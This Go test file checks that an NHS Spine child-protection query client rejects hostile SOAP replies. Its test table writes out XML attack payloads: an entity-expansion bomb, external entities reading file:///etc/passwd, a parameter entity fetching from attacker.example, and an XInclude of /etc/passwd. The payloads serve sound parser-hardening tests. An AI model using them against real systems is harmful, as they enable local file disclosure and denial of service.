package spine

import (
	"bufio"
	"net/url"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/wardsmsp/ward/cpis"
)

const askedID = "A0000000-0000-4000-8000-000000000001"

// judging returns a client that connects to nothing and the question that it asked.
func judging(t testing.TB) (*Client, cpis.Query) {
	t.Helper()
	number, err := cpis.ParseNHSNumber("9990000018")
	if err != nil {
		t.Fatal(err)
	}
	config := Config{
		Routes: Fixed{Endpoint: &url.URL{Scheme: "https", Host: "spine.test", Path: "/query"}}, Rules: cpis.DefaultRules(),
		MaxConnections: 1, MaxReply: 256 << 10, Now: time.Now,
	}
	return New(config), cpis.Query{ID: "E0000000-0000-4000-8000-000000000001", Author: cpis.System{}, Number: number}
}

// envelopeAround writes a reply as the Spine does.
func envelopeAround(content string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/" xmlns="urn:hl7-org:v3"` +
		` xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:npfitlc="NPFIT:HL7:Localisation">` +
		`<SOAP:Header><wsa:RelatesTo>uuid:` + askedID + `</wsa:RelatesTo></SOAP:Header><SOAP:Body>` + content + `</SOAP:Body></SOAP:Envelope>`
}

const (
	heldRecord = `<record><communicationFunctionSnd><organisation><id root="2.16.840.1.113883.2.1.3.2.4.19.1" extension="E09X1"/>` +
		`<name>Westmarch Borough Council</name><telecom value="tel:02079460102" use="EC"/></organisation></communicationFunctionSnd>` +
		`<CP-ISRecord><pertinentInformation15><npfitlc:contentId root="2.16.840.1.113883.2.1.3.2.4.18.16" extension="COCT_TP146105GB01#CPPInformation"/>` +
		`<COCT_TP146105GB01.CPPInformation><component><cPPStartDate><value value="202601020900"/></cPPStartDate></component></COCT_TP146105GB01.CPPInformation></pertinentInformation15>` +
		`<subject><npfitlc:contentId root="2.16.840.1.113883.2.1.3.2.4.18.16" extension="COCT_TP145101GB01#Child"/><COCT_TP145101GB01.Child>` +
		`<id root="2.16.840.1.113883.2.1.4.1" extension="9990000018"/><childPerson><birthTime value="20180105"/><name><given>Robin</given><family>Fennimore</family></name></childPerson>` +
		`</COCT_TP145101GB01.Child></subject></CP-ISRecord></record>`
	heldRecords = `<pertinentInformation14><pertinentCP-ISRecordControlAct>` + heldRecord + `</pertinentCP-ISRecordControlAct></pertinentInformation14>`
)

// success is a success reply with that total of records and what follows it.
func success(total, information string) string {
	return `<REPC_IN000007GB01><ControlActEvent><subject><CP-ISNHSQueryResponse><effectiveTime value="20260314092701+0000"/><id root="F0000000-0000-4000-8000-000000000001"/>` +
		`<pertinentInformation11><pertinentTotalReturnedAccessRecords><value value="0"/></pertinentTotalReturnedAccessRecords></pertinentInformation11>` +
		`<pertinentInformation12><pertinentTotalReturnedChildRecords><value value="` + total + `"/></pertinentTotalReturnedChildRecords></pertinentInformation12>` + information +
		`</CP-ISNHSQueryResponse></subject><queryAck><queryResponseCode code="OK"/></queryAck></ControlActEvent></REPC_IN000007GB01>`
}

const noMatch = `<QUQI_IN010000UK14><acknowledgement typeCode="AE"><messageRef><id root="` + askedID + `"/></messageRef></acknowledgement>` +
	`<ControlActEvent><reason><justifyingDetectedIssueEvent><code code="1"/></justifyingDetectedIssueEvent></reason></ControlActEvent></QUQI_IN010000UK14>`

// goodReplies are what hostile replies are made of.
func goodReplies() map[cpis.Outcome]string {
	return map[cpis.Outcome]string{cpis.Found: envelopeAround(success("1", heldRecords)), cpis.NoRecord: envelopeAround(noMatch)}
}

func instead(old, with string) func(string) string {
	return func(doc string) string { return strings.ReplaceAll(doc, old, with) }
}

// bomb is a document type that declares entities of entities.
const bomb = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`

// hostileReplies change a good reply, whichever it is. The outcome is that of the
// good one, or the reply is not believed.
var hostileReplies = []struct {
	name     string
	change   func(string) string
	believed bool
}{
	{"as it is", func(doc string) string { return doc }, true},
	{"padded", func(doc string) string { return doc + strings.Repeat("\r\n", 1000) }, true},
	{"a comment before the root", instead("?><SOAP:Envelope", "?><!-- x --><SOAP:Envelope"), true},
	{"line ends of Windows", instead("><", ">\r\n<"), true},
	{"other prefixes", instead("SOAP", "x"), true},
	{"a schema to fetch", instead("<SOAP:Body", `<SOAP:Body xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:hl7-org:v3 http://attacker.example/x.xsd"`), true},
	{"XInclude in the header", instead("<SOAP:Header>", `<SOAP:Header><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`), true},
	{"another envelope in the header", func(doc string) string {
		return strings.Replace(doc, "<SOAP:Header>", "<SOAP:Header>"+noMatch, 1)
	}, true},

	{"empty", func(string) string { return "" }, false},
	{"white space", func(string) string { return " \r\n" }, false},
	{"HTML", func(string) string { return "<html><body>Bad gateway</body></html>" }, false},
	{"an entity bomb", instead("?><SOAP:Envelope", "?>"+bomb+"<SOAP:Envelope"), false},
	{"an external entity", instead("?><SOAP:Envelope", `?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><SOAP:Envelope`), false},
	{"a parameter entity", instead("?><SOAP:Envelope", `?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.example/">%a;]><SOAP:Envelope`), false},
	{"a processing instruction", instead("<SOAP:Body>", "<SOAP:Body><?x y?>"), false},
	{"deep nesting", instead("<SOAP:Body>", "<SOAP:Body>"+strings.Repeat("<x>", 10_000)+strings.Repeat("</x>", 10_000)), false},
	{"an attribute flood", instead("<SOAP:Body>", "<SOAP:Body"+strings.Repeat(` x="1"`, 1000)+">"), false},
	{"a huge name", instead("<SOAP:Body>", "<SOAP:Body><"+strings.Repeat("x", 100_000)+"/>"), false},
	{"a huge text", instead("<SOAP:Body>", "<SOAP:Body><x>"+strings.Repeat("x", 100_000)+"</x>"), false},
	{"UTF-16 declared", instead("UTF-8", "UTF-16"), false},
	{"Latin-1 declared", instead("UTF-8", "ISO-8859-1"), false},
	{"not UTF-8", instead("<SOAP:Body>", "<SOAP:Body>\xff"), false},
	{"a NUL after the root", func(doc string) string { return doc + "\x00" }, false},
	{"XML 1.1", instead(`version="1.0"`, `version="1.1"`), false},
	{"an undeclared prefix", instead("<SOAP:Body>", "<SOAP:Body><p:x/>"), false},
	{"SOAP 1.2", instead("http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope"), false},
	{"without its namespace", instead(` xmlns="urn:hl7-org:v3"`, ""), false},
	{"a second root", func(doc string) string { return doc + "<x/>" }, false},
	{"a second reply after it", func(doc string) string { return doc + doc[strings.Index(doc, "<SOAP:Envelope"):] }, false},
	{"two Bodies", instead("</SOAP:Body>", "</SOAP:Body><SOAP:Body/>"), false},
	{"a Body before it", instead("<SOAP:Body>", "<SOAP:Body/><SOAP:Body>"), false},
	{"two Headers", instead("<SOAP:Header>", "<SOAP:Header/><SOAP:Header>"), false},
	{"the other reply beside it", instead("</SOAP:Body>", noMatch+"</SOAP:Body>"), false},
	{"a found reply beside it", instead("</SOAP:Body>", success("1", heldRecords)+"</SOAP:Body>"), false},
	{"a record beside it", instead("</SOAP:Body>", heldRecord+"</SOAP:Body>"), false},
	{"a fault beside it", instead("</SOAP:Body>", "<SOAP:Fault/></SOAP:Body>"), false},
	{"moved to the header", func(doc string) string {
		body := doc[strings.Index(doc, "<SOAP:Body>")+len("<SOAP:Body>") : strings.Index(doc, "</SOAP:Body>")]
		return strings.Replace(strings.Replace(doc, body, "", 1), "<SOAP:Header>", "<SOAP:Header>"+body, 1)
	}, false},
	{"too deep in wrappers", func(doc string) string {
		return strings.Replace(strings.Replace(doc, "<SOAP:Body>", "<SOAP:Body><a><b>", 1), "</SOAP:Body>", "</b></a></SOAP:Body>", 1)
	}, false},
	{"an answer to another message", instead(askedID, "B0000000-0000-4000-8000-000000000009"), false},
	{"two relations", instead("<SOAP:Header>", "<SOAP:Header><wsa:RelatesTo>uuid:"+askedID+"</wsa:RelatesTo>"), false},
	{"a relation with a reference", instead("uuid:", "uuid&#58;"), false},
	{"a relation in CDATA", instead("<wsa:RelatesTo>", "<wsa:RelatesTo><![CDATA[]]>"), false},
	{"a relation with a no-break space", instead("uuid:", "\u00a0uuid:"), false},
}

// WRD-SPN-12, WRD-SEC-02, WRD-SEC-04: a hostile reply is the reply that it was, or
// it is not believed; it never turns into another, least of all into "no record".
func TestHostileReplies(t *testing.T) {
	client, question := judging(t)
	for outcome, good := range goodReplies() {
		for _, c := range hostileReplies {
			body := c.change(good)
			answer := client.judge(received{status: 200, mediaType: "text/xml", body: body}, question, askedID)
			want := cpis.ResponseInvalid
			if c.believed {
				want = outcome
			}
			if answer.Outcome() != want {
				t.Errorf("%s, %s: the outcome is %s (%s), want %s", outcome, c.name, answer.Outcome(), answer.Reason(), want)
			}
			_, data := answer.Findings()
			if data != (answer.Outcome() == cpis.Found) {
				t.Errorf("%s, %s: data without the outcome found, or the reverse", outcome, c.name)
			}
		}
	}
}

// H-17: an empty success is "no record" if it says 0 and holds nothing, and not if a
// record is hidden anywhere in it.
func TestHiddenRecords(t *testing.T) {
	client, question := judging(t)
	empty := success("0", "")
	cases := map[string]struct {
		body string
		want cpis.Outcome
	}{
		"nothing":                       {empty, cpis.NoRecord},
		"no total":                      {strings.Replace(empty, `<value value="0"/></pertinentTotalReturnedChildRecords>`, `</pertinentTotalReturnedChildRecords>`, 1), cpis.ResponseInvalid},
		"a total of -0":                 {success("-0", ""), cpis.ResponseInvalid},
		"a total of 00":                 {success("00", ""), cpis.NoRecord},
		"a total of 0 by reference":     {success("&#48;", ""), cpis.NoRecord},
		"a total in other digits":       {success("٠", ""), cpis.ResponseInvalid},
		"a total of 0 and a record":     {success("0", heldRecords), cpis.Found},
		"a total of 2":                  {success("2", heldRecords), cpis.ResponseInvalid},
		"a null container with records": {success("0", strings.Replace(heldRecords, "<pertinentInformation14>", `<pertinentInformation14 nullFlavor="NI">`, 1)), cpis.ResponseInvalid},
		"a container of another name":   {success("0", strings.ReplaceAll(heldRecords, "pertinentInformation14", "pertinentInformation16")), cpis.ResponseInvalid},
		"a container in another space":  {success("0", strings.Replace(heldRecords, "<pertinentInformation14>", `<pertinentInformation14 xmlns="urn:x">`, 1)), cpis.ResponseInvalid},
		"a record in a total":           {strings.Replace(empty, "</pertinentInformation12>", heldRecord+"</pertinentInformation12>", 1), cpis.ResponseInvalid},
		"a record in the query ack":     {strings.Replace(empty, "</queryAck>", heldRecord+"</queryAck>", 1), cpis.ResponseInvalid},
		"a record in an author":         {strings.Replace(empty, "<ControlActEvent>", "<ControlActEvent><author1>"+heldRecord+"</author1>", 1), cpis.ResponseInvalid},
		"two payloads":                  {strings.Replace(empty, "</subject>", "<CP-ISNHSQueryResponse/></subject>", 1), cpis.ResponseInvalid},
		"not found with a record":       {strings.Replace(noMatch, "</reason>", "</reason>"+heldRecord, 1), cpis.ResponseInvalid},
		"two reasons, one hidden":       {strings.Replace(noMatch, "</reason>", `</reason><reason><justifyingDetectedIssueEvent nullFlavor="NI"/></reason>`, 1), cpis.SpineError},
	}
	for name, c := range cases {
		answer := client.judge(received{status: 200, mediaType: "text/xml", body: envelopeAround(c.body)}, question, askedID)
		if answer.Outcome() != c.want {
			t.Errorf("%s: the outcome is %s (%s), want %s", name, answer.Outcome(), answer.Reason(), c.want)
		}
	}
}

// WRD-SPN-12, H-17: a reply cut short at any byte, of its body or of its HTTP
// response, is not known.
func TestTruncatedReplies(t *testing.T) {
	client, question := judging(t)
	for outcome, body := range goodReplies() {
		for n := range len(body) {
			answer := client.judge(received{status: 200, mediaType: "text/xml", body: body[:n]}, question, askedID)
			if answer.Outcome() != cpis.ResponseInvalid {
				t.Fatalf("%s, after %d of %d bytes: %s", outcome, n, len(body), answer.Outcome())
			}
		}
		for _, framing := range []string{"Content-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body, "Transfer-Encoding: chunked\r\n\r\n" + chunked(body)} {
			response := "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n" + framing
			for n := range len(response) {
				_, _, err := client.pool.read(connOf(response[:n], client.config.MaxReply))
				if err == nil {
					t.Fatalf("%s: %d of %d bytes of an HTTP response pass for the whole", outcome, n, len(response))
				}
			}
			r, _, err := client.pool.read(connOf(response, client.config.MaxReply))
			if err != nil || client.judge(r, question, askedID).Outcome() != outcome {
				t.Errorf("%s: the whole response is not read: %v", outcome, err)
			}
		}
	}
}

// chunked writes a body in two chunks.
func chunked(body string) string {
	half := len(body) / 2
	chunk := func(s string) string { return strconv.FormatInt(int64(len(s)), 16) + "\r\n" + s + "\r\n" }
	return chunk(body[:half]) + chunk(body[half:]) + "0\r\n\r\n"
}

// connOf is a connection on which that comes and nothing more.
func connOf(response string, most int) *conn {
	limit := &limitedReader{r: strings.NewReader(response), n: int64(most) + maxResponseHeader}
	return &conn{limit: limit, reader: bufio.NewReader(limit)}
}

// WRD-SEC-01: what a reply costs in memory grows with its length and with nothing
// else.
func TestHostileRepliesCostWhatTheyWeigh(t *testing.T) {
	client, question := judging(t)
	for _, good := range goodReplies() {
		for _, c := range hostileReplies {
			body := c.change(good)
			var start, end runtime.MemStats
			runtime.ReadMemStats(&start)
			client.judge(received{status: 200, mediaType: "text/xml", body: body}, question, askedID)
			runtime.ReadMemStats(&end)
			spent := end.TotalAlloc - start.TotalAlloc
			if most := uint64(4*len(body) + 512<<10); spent > most {
				t.Errorf("%s: %d bytes of memory for %d of reply, want at most %d", c.name, spent, len(body), most)
			}
		}
	}
}
